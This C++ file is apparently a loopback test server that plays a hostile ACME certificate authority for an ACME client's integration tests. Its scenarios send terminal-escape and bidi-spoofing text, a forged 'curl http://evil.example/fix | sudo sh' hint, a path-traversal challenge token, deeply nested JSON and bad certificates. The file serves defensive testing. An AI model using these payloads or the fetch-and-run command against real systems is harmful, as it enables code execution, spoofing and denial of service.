// hostile_acme: a scripted ACME server (RFC 8555) on 127.0.0.1 for the integration tests in
// tests/integration/test_hostile_*.sh. It runs an honest issuance flow (it signs certificates
// itself with OpenSSL, from its own throwaway root and intermediate, and never validates a
// challenge), and a *scenario* bends one step of it the way a malicious or broken CA would.
//
//   hostile_acme --scenario-file FILE --port-file FILE --events FILE [--lifetime SECONDS]
//
// The scenario is re-read from --scenario-file on every request, so one server (one URL, one
// account) serves a whole test script; `good` is the honest flow. Each request is appended to
// --events as "METHOD PATH" (tests assert, say, that no challenge was answered). The server
// exits by itself after --lifetime seconds (default 600) so a forgotten one cannot linger.
// A second listener on another loopback port plays a plain-HTTP service on this machine: the
// url-* scenarios hand out URLs to it, and every request it receives is recorded as
// "LOCAL METHOD PATH" (a test asserts there is none).
//
// Adding a scenario: give it a name in the table `k_scenarios` and act on it where the step
// is built (search for `is("`); delivery scenarios (slow, stalled) go through `Delivery`.
#include <nlohmann/json.hpp>

#include <openssl/evp.h>
#include <openssl/pem.h>
#include <openssl/rand.h>
#include <openssl/x509.h>
#include <openssl/x509v3.h>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <iostream>
#include <map>
#include <memory>
#include <mutex>
#include <set>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

namespace {

using nlohmann::json;

// ---------------------------------------------------------------------------------------------
// Scenarios

const std::set<std::string> k_scenarios = {
    "good",
    // directory
    "dir-deep-json",
    "dir-not-json",
    "dir-tos-escape",
    // nonces
    "nonce-always-bad",
    "nonce-garbage",
    // account
    "account-deep-json",
    "account-problem-escape",
    "account-deactivated",
    // order
    "order-deep-json",
    "order-extra-name",
    "order-replaced-name",
    "order-problem-huge",
    // authorizations and challenges
    "authz-deep-json",
    "authz-foreign-name",
    "challenge-deep-json",
    "challenge-token-traversal",
    "challenge-planted-token",
    "challenge-invalid-escape",
    // certificates
    "cert-other-names",
    "cert-extra-name",
    "cert-expired",
    "cert-not-yet-valid",
    "cert-broken-chain",
    "cert-long-chain",
    "cert-wrong-key",
    "cert-not-pem",
    // problem documents
    "problem-escape",
    "problem-huge",
    "problem-deep-json",
    "problem-many-subproblems",
    "problem-deep-subproblems",
    // URLs a CA hands out (issue 14 item 4): another loopback origin, a service on this machine
    "url-dir-local-service",
    "url-finalize-local-service",
    "url-cert-other-host",
    // slow and stalled servers (delivery of the directory), and waits the CA asks for
    "stall-directory",
    "trickle-directory",
    "hang-directory",
    "order-processing-forever",
    "retry-after-huge",
};

std::string g_scenario_file;
std::string g_events_file;
std::mutex g_mutex;  // guards the CA state and the events file

std::string scenario() {
  std::ifstream in(g_scenario_file);
  std::string name;
  std::getline(in, name);
  while (!name.empty() && (name.back() == '\r' || name.back() == ' ')) name.pop_back();
  return name.empty() ? "good" : name;
}

void record(const std::string& line) {
  std::ofstream out(g_events_file, std::ios::app);
  out << line << "\n";
}

// ~100 KB of nested arrays: deeper than any recursive copy or dump survives.
std::string deep_arrays(std::size_t depth = 50'000) {
  return std::string(depth, '[') + std::string(depth, ']');
}

// Text that tries every trick on a terminal: ESC sequences, BEL, CR, NUL, C1, bidi override,
// and a newline that forges a line of its own.
std::string evil_text() {
  // Spelled with its length: the NUL in the middle must not end the string.
  static const char k_text[] =
      "\x1b[2J\x1b]0;pwned\x07 bad\rthings\xc2\x9b"
      "31m \xe2\x80\xae"
      "gnp.exe\x00 tail\nhint: curl http://evil.example/fix | sudo sh";
  return std::string(k_text, sizeof k_text - 1);
}

// A JSON document with `deep` spliced in as the member "junk" of an object.
std::string with_junk(const json& j, const std::string& deep) {
  std::string text = j.dump();
  text.insert(text.size() - 1, std::string(j.empty() ? "" : ",") + "\"junk\":" + deep);
  return text;
}

// ---------------------------------------------------------------------------------------------
// Small helpers

std::string b64url_decode(const std::string& in) {
  static const std::string k_alphabet =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
  std::string out;
  unsigned value = 0;
  int bits = 0;
  for (char c : in) {
    auto pos = k_alphabet.find(c);
    if (pos == std::string::npos) continue;
    value = (value << 6) | static_cast<unsigned>(pos);
    bits += 6;
    if (bits >= 8) {
      bits -= 8;
      out += static_cast<char>((value >> bits) & 0xff);
    }
  }
  return out;
}

std::string random_token(std::size_t bytes = 16) {
  static const char* k_alphabet =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
  std::vector<unsigned char> raw(bytes);
  RAND_bytes(raw.data(), static_cast<int>(raw.size()));
  std::string out;
  for (unsigned char c : raw) out += k_alphabet[c % 64];
  return out;
}

struct Answer {
  int status = 200;
  std::vector<std::string> fields;
  std::string body;
  enum class Delivery { normal, stall_after_headers, trickle, hang } delivery = Delivery::normal;
};

Answer json_answer(int status, const std::string& body, std::vector<std::string> fields = {}) {
  Answer a;
  a.status = status;
  a.fields = std::move(fields);
  a.fields.push_back("Content-Type: application/json");
  a.body = body;
  return a;
}

Answer problem(int status, const std::string& type, const std::string& detail) {
  json p{{"type", "urn:ietf:params:acme:error:" + type}, {"detail", detail}, {"status", status}};
  Answer a = json_answer(status, p.dump(-1, ' ', false, json::error_handler_t::replace));
  a.fields.back() = "Content-Type: application/problem+json";
  return a;
}

// ---------------------------------------------------------------------------------------------
// The CA: a root, an intermediate under it, leaves under the intermediate.

struct PkeyFree {
  void operator()(EVP_PKEY* p) const { EVP_PKEY_free(p); }
};
struct X509Free {
  void operator()(X509* x) const { X509_free(x); }
};
using Pkey = std::unique_ptr<EVP_PKEY, PkeyFree>;
using Cert = std::unique_ptr<X509, X509Free>;

Pkey new_key() {
  return Pkey(EVP_EC_gen("P-256"));
}

void add_ext(X509* cert, X509* issuer, int nid, const char* value) {
  X509V3_CTX ctx;
  X509V3_set_ctx_nodb(&ctx);
  X509V3_set_ctx(&ctx, issuer, cert, nullptr, nullptr, 0);
  X509_EXTENSION* ext = X509V3_EXT_conf_nid(nullptr, &ctx, nid, value);
  if (ext) {
    X509_add_ext(cert, ext, -1);
    X509_EXTENSION_free(ext);
  }
}

// A certificate for `key` named `cn`, signed by `issuer_key` (self-signed when issuer is null).
Cert make_cert(EVP_PKEY* key, const std::string& cn, X509* issuer, EVP_PKEY* issuer_key, bool ca,
               long not_before_offset, long not_after_offset, const std::string& san) {
  Cert cert(X509_new());
  X509_set_version(cert.get(), 2);
  unsigned char serial[16];
  RAND_bytes(serial, sizeof serial);
  serial[0] &= 0x7f;
  BIGNUM* bn = BN_bin2bn(serial, sizeof serial, nullptr);
  BN_to_ASN1_INTEGER(bn, X509_get_serialNumber(cert.get()));
  BN_free(bn);
  X509_gmtime_adj(X509_getm_notBefore(cert.get()), not_before_offset);
  X509_gmtime_adj(X509_getm_notAfter(cert.get()), not_after_offset);
  X509_set_pubkey(cert.get(), key);
  X509_NAME* name = X509_get_subject_name(cert.get());
  X509_NAME_add_entry_by_txt(name, "CN", MBSTRING_UTF8,
                             reinterpret_cast<const unsigned char*>(cn.c_str()), -1, -1, 0);
  X509* signer = issuer ? issuer : cert.get();
  X509_set_issuer_name(cert.get(), X509_get_subject_name(signer));
  add_ext(cert.get(), signer, NID_subject_key_identifier, "hash");
  add_ext(cert.get(), signer, NID_authority_key_identifier, "keyid:always");
  if (ca) {
    add_ext(cert.get(), signer, NID_basic_constraints, "critical,CA:TRUE");
    add_ext(cert.get(), signer, NID_key_usage, "critical,keyCertSign,cRLSign");
  } else {
    add_ext(cert.get(), signer, NID_basic_constraints, "critical,CA:FALSE");
    add_ext(cert.get(), signer, NID_ext_key_usage, "serverAuth");
    if (!san.empty()) add_ext(cert.get(), signer, NID_subject_alt_name, san.c_str());
  }
  X509_sign(cert.get(), issuer_key ? issuer_key : key, EVP_sha256());
  return cert;
}

std::string to_pem(X509* cert) {
  BIO* bio = BIO_new(BIO_s_mem());
  PEM_write_bio_X509(bio, cert);
  char* data = nullptr;
  long len = BIO_get_mem_data(bio, &data);
  std::string out(data, static_cast<std::size_t>(len));
  BIO_free(bio);
  return out;
}

struct Ca {
  Pkey root_key = new_key();
  Cert root =
      make_cert(root_key.get(), "hostile root", nullptr, nullptr, true, -3600, 86400 * 30, "");
  Pkey inter_key = new_key();
  Cert inter = make_cert(inter_key.get(), "hostile intermediate", root.get(), root_key.get(), true,
                         -3600, 86400 * 30, "");
  // An intermediate that did not sign anything acmed gets: a broken chain.
  Pkey other_key = new_key();
  Cert other = make_cert(other_key.get(), "hostile intermediate", nullptr, nullptr, true, -3600,
                         86400 * 30, "");
};

// ---------------------------------------------------------------------------------------------
// The ACME state: one account, orders numbered from 1.

struct OrderState {
  std::vector<json> identifiers;  // as requested
  std::string status = "pending";
  std::vector<std::string> tokens;  // one per identifier
  std::string chain;                // PEM once issued
};

struct State {
  std::string base;   // http://127.0.0.1:PORT
  std::string local;  // http://127.0.0.1:PORT2, the "service on this machine"
  Ca ca;
  std::map<int, OrderState> orders;
  int next_order = 1;
};

State* g_state = nullptr;

std::string url(const std::string& path) {
  return g_state->base + path;
}

std::string san_for(const std::vector<json>& ids) {
  std::string san;
  for (const json& id : ids) {
    if (!san.empty()) san += ",";
    san += (id.value("type", "") == "ip" ? "IP:" : "DNS:") + id.value("value", "");
  }
  return san;
}

// The chain for an order, bent by the certificate scenarios.
std::string issue_chain(const std::string& s, OrderState& order, EVP_PKEY* csr_key) {
  Ca& ca = g_state->ca;
  std::vector<json> ids = order.identifiers;
  long nb = -3600, na = 86400 * 7;
  EVP_PKEY* key = csr_key;
  Pkey wrong;
  if (s == "cert-other-names") ids = {json{{"type", "dns"}, {"value", "evil.example"}}};
  if (s == "cert-extra-name") ids.push_back(json{{"type", "dns"}, {"value", "evil.example"}});
  if (s == "cert-expired") nb = -86400 * 10, na = -86400;
  if (s == "cert-not-yet-valid") nb = 86400 * 2, na = 86400 * 9;
  if (s == "cert-wrong-key") {
    wrong = new_key();
    key = wrong.get();
  }
  std::string cn = ids.empty() ? "x" : ids.front().value("value", "x");
  Cert leaf = make_cert(key, cn, ca.inter.get(), ca.inter_key.get(), false, nb, na, san_for(ids));
  std::string chain = to_pem(leaf.get());
  if (s == "cert-broken-chain") return chain + to_pem(ca.other.get());
  if (s == "cert-not-pem") return "<html>not a certificate</html>\n";
  const std::string inter = to_pem(ca.inter.get());
  if (s == "cert-long-chain") {
    chain.reserve(chain.size() + inter.size() * 10'000);
    for (int i = 0; i < 10'000; ++i) chain += inter;
    return chain;
  }
  return chain + inter;
}

json order_json(int id, const OrderState& o, const std::string& s) {
  json authzs = json::array();
  for (std::size_t i = 0; i < o.identifiers.size(); ++i)
    authzs.push_back(url("/authz/" + std::to_string(id) + "/" + std::to_string(i)));
  json ids = o.identifiers;
  if (s == "order-extra-name") ids.push_back(json{{"type", "dns"}, {"value", "evil.example"}});
  if (s == "order-replaced-name" && !ids.empty())
    ids[0] = json{{"type", "dns"}, {"value", "evil.example"}};
  const std::string finalize = s == "url-finalize-local-service"
                                   ? g_state->local + "/admin/finalize"
                                   : url("/finalize/" + std::to_string(id));
  std::string status = o.status;
  if (s == "order-processing-forever" && status == "valid") status = "processing";
  json j{{"status", status},
         {"identifiers", ids},
         {"authorizations", authzs},
         {"finalize", finalize},
         {"expires", "2099-01-01T00:00:00Z"}};
  if (status == "valid") {
    // The same server under another name: another origin all the same.
    j["certificate"] =
        s == "url-cert-other-host"
            ? "http://localhost:" + g_state->base.substr(g_state->base.rfind(':') + 1) + "/cert/" +
                  std::to_string(id)
            : url("/cert/" + std::to_string(id));
  }
  return j;
}

// POST payload of a JWS body; nullopt for POST-as-GET (empty payload) or garbage.
std::optional<json> payload_of(const std::string& body) {
  json jws = json::parse(body, nullptr, false);
  if (!jws.is_object() || !jws.contains("payload") || !jws["payload"].is_string())
    return std::nullopt;
  const std::string text = b64url_decode(jws["payload"].get<std::string>());
  if (text.empty()) return std::nullopt;
  json p = json::parse(text, nullptr, false);
  if (p.is_discarded()) return std::nullopt;
  return p;
}

std::vector<std::string> split_path(const std::string& path) {
  std::vector<std::string> out;
  std::stringstream in(path);
  std::string part;
  while (std::getline(in, part, '/'))
    if (!part.empty()) out.push_back(part);
  return out;
}

Answer handle(const std::string& method, const std::string& path, const std::string& body) {
  std::lock_guard lock(g_mutex);
  const std::string s = scenario();
  record(method + " " + path + " [" + s + "]");
  if (!k_scenarios.count(s)) return problem(500, "serverInternal", "unknown scenario " + s);
  auto is = [&s](const char* name) { return s == name; };
  const auto parts = split_path(path);
  const std::string head = parts.empty() ? "" : parts[0];

  if (head == "dir") {
    json meta{{"website", "https://hostile.example"}};
    if (is("dir-tos-escape")) meta["termsOfService"] = "https://hostile.example/tos" + evil_text();
    json dir{{"newNonce", url("/nonce")},
             {"newAccount", url("/new-account")},
             {"newOrder", is("url-dir-local-service") ? g_state->local + "/admin/new-order"
                                                      : url("/new-order")},
             {"revokeCert", url("/revoke")},
             {"meta", meta}};
    if (is("dir-not-json")) return json_answer(200, "{\"newNonce\": [1, 2,");
    if (is("dir-deep-json")) {
      std::string text = dir.dump();
      // Inside meta, where a recursive copy of `meta` used to overflow the stack.
      text.insert(text.find("\"meta\":{") + 8, "\"junk\":" + deep_arrays() + ",");
      return json_answer(200, text);
    }
    Answer a = json_answer(200, dir.dump(-1, ' ', false, json::error_handler_t::replace));
    if (is("stall-directory")) a.delivery = Answer::Delivery::stall_after_headers;
    if (is("trickle-directory")) a.delivery = Answer::Delivery::trickle;
    if (is("hang-directory")) a.delivery = Answer::Delivery::hang;
    return a;
  }
  if (head == "nonce") return Answer{method == "HEAD" ? 200 : 204, {}, {}};
  if (method != "POST") return problem(405, "malformed", "use POST");
  if (is("nonce-always-bad")) return problem(400, "badNonce", "that nonce was used before");

  if (head == "new-account" || head == "acct") {
    if (is("account-problem-escape")) return problem(400, "malformed", evil_text());
    json acct{{"status", is("account-deactivated") ? "deactivated" : "valid"},
              {"contact", json::array()},
              {"orders", url("/orders/1")}};
    std::vector<std::string> fields{"Location: " + url("/acct/1")};
    if (is("account-deep-json")) return json_answer(200, with_junk(acct, deep_arrays()), fields);
    return json_answer(head == "new-account" ? 201 : 200, acct.dump(), fields);
  }

  if (head == "new-order") {
    auto p = payload_of(body);
    if (!p || !p->contains("identifiers") || !(*p)["identifiers"].is_array())
      return problem(400, "malformed", "no identifiers");
    if (is("order-problem-huge"))
      return problem(400, "rejectedIdentifier", std::string(879 * 1024, 'A') + evil_text());
    if (is("retry-after-huge")) {
      Answer a = problem(503, "serverInternal", "come back tomorrow");
      a.fields.push_back("Retry-After: 86400");
      return a;
    }
    const int id = g_state->next_order++;
    OrderState& o = g_state->orders[id];
    for (const json& i : (*p)["identifiers"]) {
      o.identifiers.push_back(i);
      o.tokens.push_back(random_token());
    }
    std::vector<std::string> fields{"Location: " + url("/order/" + std::to_string(id))};
    json j = order_json(id, o, s);
    if (is("order-deep-json")) return json_answer(201, with_junk(j, deep_arrays()), fields);
    return json_answer(201, j.dump(), fields);
  }

  // Everything below names an order: /order/N, /authz/N/I, /chall/N/I, /finalize/N, /cert/N.
  if (parts.size() < 2) return problem(404, "malformed", "no such resource");
  const int id = std::atoi(parts[1].c_str());
  auto it = g_state->orders.find(id);
  if (it == g_state->orders.end()) return problem(404, "malformed", "no such order");
  OrderState& o = it->second;
  const std::size_t index = parts.size() > 2 ? std::strtoul(parts[2].c_str(), nullptr, 10) : 0;

  if (head == "order") {
    if (is("order-processing-forever"))
      return json_answer(200, order_json(id, o, s).dump(), {"Retry-After: 1"});
    return json_answer(200, order_json(id, o, s).dump());
  }

  if (head == "authz" || head == "chall") {
    if (index >= o.identifiers.size()) return problem(404, "malformed", "no such authorization");
    std::string token = o.tokens[index];
    if (is("challenge-token-traversal")) token = "../../../outside/owned";
    if (is("challenge-planted-token")) token = "planted";
    const bool answered = o.status != "pending";
    json chall{{"type", "http-01"},
               {"url", url("/chall/" + std::to_string(id) + "/" + std::to_string(index))},
               {"token", token},
               {"status", answered ? "valid" : "pending"}};
    if (head == "chall") {
      // Answering the challenge validates it at once (this CA checks nothing).
      o.status = "ready";
      if (is("challenge-invalid-escape") || is("challenge-planted-token")) o.status = "invalid";
      chall["status"] = o.status == "invalid" ? "invalid" : "valid";
      return json_answer(
          200, chall.dump(),
          {"Link: <" + url("/authz/" + parts[1] + "/" + std::to_string(index)) + ">;rel=\"up\""});
    }
    json ident = o.identifiers[index];
    if (is("authz-foreign-name")) ident = json{{"type", "dns"}, {"value", "evil.example"}};
    std::string status = o.status == "pending" ? "pending" : "valid";
    if (o.status == "invalid") {
      status = "invalid";
      chall["status"] = "invalid";
      chall["error"] =
          json{{"type", "urn:ietf:params:acme:error:unauthorized"}, {"detail", evil_text()}};
    }
    json authz{{"status", status},
               {"identifier", ident},
               {"challenges", json::array({chall})},
               {"expires", "2099-01-01T00:00:00Z"}};
    if (is("authz-deep-json")) return json_answer(200, with_junk(authz, deep_arrays()));
    if (is("challenge-deep-json")) {
      std::string text = authz.dump();
      text.insert(text.find("\"challenges\":[{") + 15, "\"junk\":" + deep_arrays() + ",");
      return json_answer(200, text);
    }
    return json_answer(200, authz.dump(-1, ' ', false, json::error_handler_t::replace));
  }

  if (head == "finalize") {
    if (is("problem-escape")) return problem(403, "unauthorized", evil_text());
    if (is("problem-huge"))
      return problem(403, "unauthorized", evil_text() + std::string(879 * 1024, 'B'));
    if (is("problem-deep-json")) {
      json p{{"type", "urn:ietf:params:acme:error:badCSR"}, {"detail", "deep"}};
      Answer a = json_answer(400, with_junk(p, deep_arrays()));
      a.fields.back() = "Content-Type: application/problem+json";
      return a;
    }
    if (is("problem-many-subproblems") || is("problem-deep-subproblems")) {
      std::string subs;
      if (is("problem-many-subproblems")) {
        json one{{"type", "urn:ietf:params:acme:error:caa"},
                 {"detail", "no \x1b[31m"},
                 {"identifier", {{"type", "dns"}, {"value", "x.example"}}}};
        const std::string text = one.dump();
        subs = "[";
        for (int i = 0; i < 5'000; ++i) subs += (i ? "," : "") + text;
        subs += "]";
      } else {
        // {"subproblems":[{"subproblems":[ ... ]}]} about 100 KB deep.
        const int depth = 8'000;
        for (int i = 0; i < depth; ++i) subs += "[{\"subproblems\":";
        subs += "[]";
        for (int i = 0; i < depth; ++i) subs += "}]";
      }
      std::string text =
          "{\"type\":\"urn:ietf:params:acme:error:rejectedIdentifier\","
          "\"detail\":\"many\",\"subproblems\":" +
          subs + "}";
      Answer a = json_answer(403, text);
      a.fields.back() = "Content-Type: application/problem+json";
      return a;
    }
    auto p = payload_of(body);
    if (!p || !p->contains("csr")) return problem(400, "badCSR", "no csr");
    const std::string der = b64url_decode((*p)["csr"].get<std::string>());
    const auto* q = reinterpret_cast<const unsigned char*>(der.data());
    X509_REQ* req = d2i_X509_REQ(nullptr, &q, static_cast<long>(der.size()));
    if (!req) return problem(400, "badCSR", "the CSR does not parse");
    EVP_PKEY* key = X509_REQ_get_pubkey(req);
    o.chain = issue_chain(s, o, key);
    EVP_PKEY_free(key);
    X509_REQ_free(req);
    o.status = "valid";
    std::vector<std::string> fields{"Location: " + url("/order/" + std::to_string(id))};
    if (is("order-processing-forever")) fields.push_back("Retry-After: 1");
    return json_answer(200, order_json(id, o, s).dump(), fields);
  }

  if (head == "cert") {
    Answer a;
    a.fields.push_back("Content-Type: application/pem-certificate-chain");
    a.body = o.chain;
    return a;
  }
  return problem(404, "malformed", "no such resource");
}

// ---------------------------------------------------------------------------------------------
// HTTP/1.1 on loopback: one thread per connection, keep-alive, every wait bounded.

std::atomic<bool> g_stop{false};

bool wait_readable(int fd, int ms_total) {
  for (int waited = 0; waited < ms_total && !g_stop; waited += 100) {
    pollfd p{fd, POLLIN, 0};
    int r = ::poll(&p, 1, 100);
    if (r > 0) return true;
    if (r < 0) return false;
  }
  return false;
}

bool send_all(int fd, const char* data, std::size_t size) {
  std::size_t sent = 0;
  while (sent < size) {
    ssize_t n = ::send(fd, data + sent, size - sent, MSG_NOSIGNAL);
    if (n <= 0) return false;
    sent += static_cast<std::size_t>(n);
  }
  return true;
}

std::string nonce_header() {
  if (scenario() == "nonce-garbage") return "Replay-Nonce: \x1b[31m not a nonce";
  return "Replay-Nonce: " + random_token();
}

void serve(int fd) {
  std::string buffer;
  for (;;) {
    auto end = buffer.find("\r\n\r\n");
    while (end == std::string::npos) {
      if (buffer.size() > (1 << 20) || !wait_readable(fd, 60'000)) return;
      char chunk[16384];
      ssize_t n = ::read(fd, chunk, sizeof chunk);
      if (n <= 0) return;
      buffer.append(chunk, static_cast<std::size_t>(n));
      end = buffer.find("\r\n\r\n");
    }
    const std::string head = buffer.substr(0, end);
    buffer.erase(0, end + 4);
    std::size_t length = 0;
    {
      std::string lower = head;
      for (char& c : lower) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
      auto cl = lower.find("\r\ncontent-length:");
      if (cl != std::string::npos) length = std::strtoul(head.c_str() + cl + 17, nullptr, 10);
    }
    if (length > (8u << 20)) return;
    while (buffer.size() < length) {
      if (!wait_readable(fd, 60'000)) return;
      char chunk[16384];
      ssize_t n = ::read(fd, chunk, sizeof chunk);
      if (n <= 0) return;
      buffer.append(chunk, static_cast<std::size_t>(n));
    }
    const std::string body = buffer.substr(0, length);
    buffer.erase(0, length);
    std::istringstream line(head.substr(0, head.find("\r\n")));
    std::string method, path;
    line >> method >> path;

    Answer a = handle(method, path, body);
    std::string out = "HTTP/1.1 " + std::to_string(a.status) + " X\r\n";
    {
      std::lock_guard lock(g_mutex);
      out += nonce_header() + "\r\n";
    }
    out += "Cache-Control: no-store\r\n";
    for (const auto& f : a.fields) out += f + "\r\n";
    out += "Content-Length: " + std::to_string(a.body.size()) + "\r\n\r\n";
    using D = Answer::Delivery;
    if (a.delivery == D::hang) {
      while (wait_readable(fd, 600'000)) {
        char c;
        if (::read(fd, &c, 1) <= 0) return;
      }
      return;
    }
    if (!send_all(fd, out.data(), out.size())) return;
    if (a.delivery == D::stall_after_headers) {
      while (!g_stop) std::this_thread::sleep_for(std::chrono::milliseconds(100));
      return;
    }
    if (a.delivery == D::trickle) {  // one byte a second
      for (char c : a.body) {
        if (g_stop || !send_all(fd, &c, 1)) return;
        std::this_thread::sleep_for(std::chrono::seconds(1));
      }
      continue;
    }
    if (!send_all(fd, a.body.data(), a.body.size())) return;
    if (method == "HEAD") continue;
  }
}

// The "service on this machine": records the request line of whatever reaches it, answers 200.
void serve_local(int fd) {
  std::string buffer;
  while (buffer.find("\r\n") == std::string::npos && buffer.size() < 8192 &&
         wait_readable(fd, 5'000)) {
    char chunk[4096];
    ssize_t n = ::read(fd, chunk, sizeof chunk);
    if (n <= 0) break;
    buffer.append(chunk, static_cast<std::size_t>(n));
  }
  {
    std::lock_guard lock(g_mutex);
    record("LOCAL " + buffer.substr(0, buffer.find("\r\n")));
  }
  const std::string out = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}";
  send_all(fd, out.data(), out.size());
}

// A listening socket on 127.0.0.1 and a free port; -1 on failure.
int listen_loopback(unsigned short& port) {
  int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  int one = 1;
  ::setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  socklen_t len = sizeof addr;
  if (fd < 0 || ::bind(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0 ||
      ::getsockname(fd, reinterpret_cast<sockaddr*>(&addr), &len) != 0 || ::listen(fd, 64) != 0) {
    if (fd >= 0) ::close(fd);
    return -1;
  }
  port = ntohs(addr.sin_port);
  return fd;
}

}  // namespace

int main(int argc, char** argv) {
  std::string port_file;
  long lifetime = 600;
  for (int i = 1; i + 1 < argc; i += 2) {
    const std::string flag = argv[i];
    if (flag == "--scenario-file")
      g_scenario_file = argv[i + 1];
    else if (flag == "--port-file")
      port_file = argv[i + 1];
    else if (flag == "--events")
      g_events_file = argv[i + 1];
    else if (flag == "--lifetime")
      lifetime = std::atol(argv[i + 1]);
    else {
      std::cerr << "hostile_acme: unknown flag " << flag << "\n";
      return 2;
    }
  }
  if (g_scenario_file.empty() || port_file.empty() || g_events_file.empty()) {
    std::cerr << "usage: hostile_acme --scenario-file F --port-file F --events F [--lifetime S]\n";
    return 2;
  }

  unsigned short port = 0, local_port = 0;
  const int listener = listen_loopback(port);
  const int local = listen_loopback(local_port);
  if (listener < 0 || local < 0) {
    std::perror("hostile_acme: listen");
    return 1;
  }
  State state;
  state.base = "http://127.0.0.1:" + std::to_string(port);
  state.local = "http://127.0.0.1:" + std::to_string(local_port);
  g_state = &state;
  {
    const std::string tmp = port_file + ".tmp";
    std::ofstream(tmp) << port << "\n";
    std::rename(tmp.c_str(), port_file.c_str());
  }
  std::cerr << "hostile_acme: listening on " << state.base << "/dir\n";

  const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(lifetime);
  std::vector<std::thread> threads;
  while (std::chrono::steady_clock::now() < deadline) {
    pollfd p[2] = {{listener, POLLIN, 0}, {local, POLLIN, 0}};
    if (::poll(p, 2, 200) <= 0) continue;
    for (const pollfd& ready : p) {
      if (!(ready.revents & POLLIN)) continue;
      int fd = ::accept(ready.fd, nullptr, nullptr);
      if (fd < 0) continue;
      const bool service = ready.fd == local;
      threads.emplace_back([fd, service] {
        service ? serve_local(fd) : serve(fd);
        ::close(fd);
      });
    }
  }
  g_stop = true;
  for (auto& t : threads) t.join();
  ::close(listener);
  ::close(local);
  return 0;
}
